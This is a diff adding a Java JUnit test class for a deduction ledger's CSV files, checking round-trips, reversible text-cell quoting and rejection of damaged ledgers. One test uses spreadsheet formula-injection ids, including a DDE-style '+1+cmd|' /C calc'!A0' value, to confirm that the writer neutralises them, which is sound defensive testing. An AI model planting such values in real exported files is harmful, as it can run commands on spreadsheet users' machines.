@@ -1,0 +1,218 @@
+package dev.keyaccount.examples.review.ledger;
+
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.quicktheories.QuickTheory.qt;
+
+import dev.keyaccount.core.money.Currencies;
+import dev.keyaccount.core.money.Monies;
+import dev.keyaccount.examples.review.csv.InputException;
+import dev.keyaccount.receivables.deduction.Authorization;
+import dev.keyaccount.receivables.deduction.Deduction;
+import dev.keyaccount.receivables.deduction.DeductionDecision;
+import dev.keyaccount.receivables.deduction.DeductionLedger;
+import dev.keyaccount.receivables.deduction.DeductionMatcher;
+import dev.keyaccount.receivables.deduction.MatchingPolicy;
+import dev.keyaccount.receivables.deduction.ReasonType;
+import dev.keyaccount.receivables.testing.RemittanceGenerator;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.io.PrintStream;
+import java.io.UncheckedIOException;
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.LocalDate;
+import java.util.List;
+import java.util.Map;
+import javax.money.CurrencyUnit;
+import javax.money.Monetary;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The ledger's files: what is written reads back equal, hostile ids survive, a damaged ledger is refused. */
+class LedgerFilesTest {
+
+  private static final PrintStream QUIET = new PrintStream(OutputStream.nullOutputStream());
+  private static final MatchingPolicy POLICY = MatchingPolicy.standard(Currencies.CNY);
+  private static final LocalDate DAY = LocalDate.of(2026, 3, 31);
+
+  @TempDir
+  Path dir;
+
+  @Test
+  void generatedLedgers_readBackEqual_andWriteTheSameBytesAgain() {
+    qt().withExamples(15).forAll(RemittanceGenerator.remittances(200, POLICY)).checkAssert(r -> {
+      DeductionLedger ledger = new DeductionMatcher(POLICY)
+          .match(r.deductions(), r.authorizations(), DeductionLedger.empty(Currencies.CNY)).ledger();
+      Path folder = fresh();
+      LedgerFiles.write(folder, List.of(ledger));
+      DeductionLedger back = LedgerFiles.read(folder, QUIET).getOrDefault("CNY", DeductionLedger.empty(Currencies.CNY));
+      assertEquals(ledger.deductions(), back.deductions());
+      assertEquals(ledger.authorizationUses(), back.authorizationUses());
+      Path again = fresh();
+      LedgerFiles.write(again, List.of(back));
+      for (String file : List.of(LedgerFiles.DEDUCTIONS_FILE, LedgerFiles.EVENTS_FILE,
+          LedgerFiles.AUTHORIZATIONS_FILE, LedgerFiles.CONSUMPTIONS_FILE)) {
+        assertArrayEquals(bytes(folder.resolve(file)), bytes(again.resolve(file)), file);
+      }
+    });
+  }
+
+  @Test
+  void hostileIdsAndReferences_decisions_andTwoCurrencies_roundTrip() {
+    String[] ids = {"=HYPERLINK(\"http://x\"&A1,\"x\")", "'=already quoted", "+1+cmd|' /C calc'!A0", "a,b", "new\nline",
+        "quote\"d", "-5", "@sum", "'plain"};
+    List<Authorization> auths = List.of(auth("AU,1", "6000.00", "PRM-2026-0000002"));
+    List<Deduction> deductions = new java.util.ArrayList<>();
+    for (int i = 0; i < ids.length; i++) {
+      deductions.add(Deduction.builder().id(ids[i]).accountId("KA\"1").reasonCode("promotion")
+          .reference(i == 0 ? "PRM-2026-2" : "=ref" + i).amount(Monies.of(new BigDecimal("100.00"), Currencies.CNY))
+          .date(DAY).build());
+    }
+    DeductionLedger cny = new DeductionMatcher(POLICY).match(deductions, auths, DeductionLedger.empty(Currencies.CNY))
+        .ledger();
+    cny = cny.apply(DeductionDecision.builder().deductionId(ids[1]).kind(DeductionDecision.Kind.DISPUTE)
+        .date(DAY.plusDays(3)).build());
+    cny = cny.apply(DeductionDecision.builder().deductionId(ids[1]).kind(DeductionDecision.Kind.RECOVER)
+        .amount(Monies.of(new BigDecimal("40.00"), Currencies.CNY)).date(DAY.plusDays(9)).build());
+    CurrencyUnit jpy = Monetary.getCurrency("JPY");
+    MatchingPolicy yen = MatchingPolicy.standard(jpy);
+    DeductionLedger jp = new DeductionMatcher(yen).match(
+        List.of(Deduction.builder().id("=J1").accountId("KA9").reasonCode("promotion")
+            .amount(Monies.of(new BigDecimal("5000"), jpy)).date(DAY).build()),
+        List.of(Authorization.builder().id("JA1").accountId("KA9").type(ReasonType.PROMOTION)
+            .amount(Monies.of(new BigDecimal("5000"), jpy)).date(DAY.minusDays(10)).build()),
+        DeductionLedger.empty(jpy)).ledger();
+
+    LedgerFiles.write(dir, List.of(jp, cny));
+    Map<String, DeductionLedger> back = LedgerFiles.read(dir, QUIET);
+    assertEquals(List.of("CNY", "JPY"), List.copyOf(back.keySet()));
+    assertEquals(cny.deductions(), back.get("CNY").deductions());
+    assertEquals(cny.authorizationUses(), back.get("CNY").authorizationUses());
+    assertEquals(jp.deductions(), back.get("JPY").deductions());
+    assertEquals(jp.authorizationUses(), back.get("JPY").authorizationUses());
+    assertTrue(back.get("CNY").deduction(ids[1]).orElseThrow().decided());
+    String text = new String(bytes(dir.resolve(LedgerFiles.DEDUCTIONS_FILE)), StandardCharsets.UTF_8);
+    assertTrue(text.contains("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\""), text);
+    assertTrue(text.contains(",5000,"), "JPY has no minor digits: " + text);
+  }
+
+  @Test
+  void textCells_encodeReversibly() {
+    for (String s : List.of("", "'", "''", "'=", "=", "a", "'a", "-1", "\t", "'\t", "@", "+")) {
+      assertEquals(s, LedgerFiles.unquote(LedgerFiles.text(s)), s);
+      String cell = LedgerFiles.text(s);
+      assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, cell);
+    }
+  }
+
+  @Test
+  void aFolderWithoutTheFormatFile_orOfAnotherFormat_isRefused() throws IOException {
+    InputException none = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(none.getMessage().contains("not a ledger folder"), none.getMessage());
+    Files.writeString(dir.resolve(LedgerFiles.FORMAT_FILE), "ka-ledger 99\n");
+    InputException other = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(other.getMessage().contains("unknown ledger format"), other.getMessage());
+  }
+
+  @Test
+  void aMissingFile_isRefused() throws IOException {
+    LedgerFiles.write(dir, List.of(sample()));
+    Files.delete(dir.resolve(LedgerFiles.CONSUMPTIONS_FILE));
+    InputException e = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(e.getMessage().contains(LedgerFiles.CONSUMPTIONS_FILE), e.getMessage());
+  }
+
+  @Test
+  void partsThatDoNotAddUp_areRefusedWithTheLine() throws IOException {
+    LedgerFiles.write(dir, List.of(sample()));
+    replace(LedgerFiles.DEDUCTIONS_FILE, ",6000.00,2026-03-31,VALID,6000.00,", ",6000.00,2026-03-31,VALID,5000.00,");
+    InputException e = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(e.getMessage().contains("line 2"), e.getMessage());
+  }
+
+  @Test
+  void aConsumptionOfAnUnknownDeduction_orAuthorization_isRefused() throws IOException {
+    LedgerFiles.write(dir, List.of(sample()));
+    replace(LedgerFiles.CONSUMPTIONS_FILE, "CNY,AU-1,D1,", "CNY,AU-1,D9,");
+    InputException e = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(e.getMessage().contains("inconsistent ledger"), e.getMessage());
+    LedgerFiles.write(dir, List.of(sample()));
+    replace(LedgerFiles.CONSUMPTIONS_FILE, "CNY,AU-1,D1,", "CNY,AU-7,D1,");
+    InputException u = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(u.getMessage().contains("AU-7"), u.getMessage());
+  }
+
+  @Test
+  void anEventOfAnUnknownDeduction_isRefused() throws IOException {
+    LedgerFiles.write(dir, List.of(sample()));
+    replace(LedgerFiles.EVENTS_FILE, "CNY,D1,", "CNY,D8,");
+    InputException e = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET));
+    assertTrue(e.getMessage().contains("D8"), e.getMessage());
+  }
+
+  @Test
+  void amountsAndDatesBeyondTheBounds_areRefused() throws IOException {
+    for (String[] bad : new String[][] {
+        {",6000.00,2026-03-31,", ",6000.001,2026-03-31,", "more decimals"},
+        {",6000.00,2026-03-31,", ",60000000000000000000000000.00,2026-03-31,", "longer than"},
+        {",6000.00,2026-03-31,", ",6000.00,2999-03-31,", "outside"},
+        {",6000.00,2026-03-31,", ",6E3,2026-03-31,", "plain decimal"},
+        {",false\n", ",no\n", "true or false"}}) {
+      LedgerFiles.write(dir, List.of(sample()));
+      replace(LedgerFiles.DEDUCTIONS_FILE, bad[0], bad[1]);
+      InputException e = assertThrows(InputException.class, () -> LedgerFiles.read(dir, QUIET), bad[1]);
+      assertTrue(e.getMessage().contains(bad[2]), e.getMessage());
+    }
+  }
+
+  @Test
+  void twoLedgersOfOneCurrency_areRefused() {
+    IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
+        () -> LedgerFiles.write(dir, List.of(sample(), sample())));
+    assertEquals("ledgers must have one ledger per currency, but CNY repeats", e.getMessage());
+  }
+
+  private static DeductionLedger sample() {
+    DeductionLedger ledger = new DeductionMatcher(POLICY).match(
+        List.of(Deduction.builder().id("D1").accountId("KA1").reasonCode("promotion").reference("PRM-1")
+            .amount(Monies.of(new BigDecimal("6000.00"), Currencies.CNY)).date(DAY).build(),
+            Deduction.builder().id("D2").accountId("KA1").reasonCode("promotion").reference("PRM-404")
+            .amount(Monies.of(new BigDecimal("250.00"), Currencies.CNY)).date(DAY).build()),
+        List.of(auth("AU-1", "6000.00", "PRM-1")), DeductionLedger.empty(Currencies.CNY)).ledger();
+    return ledger.apply(DeductionDecision.builder().deductionId("D2").kind(DeductionDecision.Kind.DISPUTE)
+        .date(DAY.plusDays(1)).build());
+  }
+
+  private static Authorization auth(String id, String amount, String reference) {
+    return Authorization.builder().id(id).accountId("KA1").type(ReasonType.PROMOTION).reference(reference)
+        .amount(Monies.of(new BigDecimal(amount), Currencies.CNY)).date(DAY.minusDays(20)).build();
+  }
+
+  private void replace(String file, String from, String to) throws IOException {
+    Path path = dir.resolve(file);
+    String text = Files.readString(path);
+    assertTrue(text.contains(from), text);
+    Files.writeString(path, text.replace(from, to));
+  }
+
+  private Path fresh() {
+    try {
+      return Files.createTempDirectory(dir, "ledger");
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+  }
+
+  private static byte[] bytes(Path file) {
+    try {
+      return Files.readAllBytes(file);
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+  }
+}
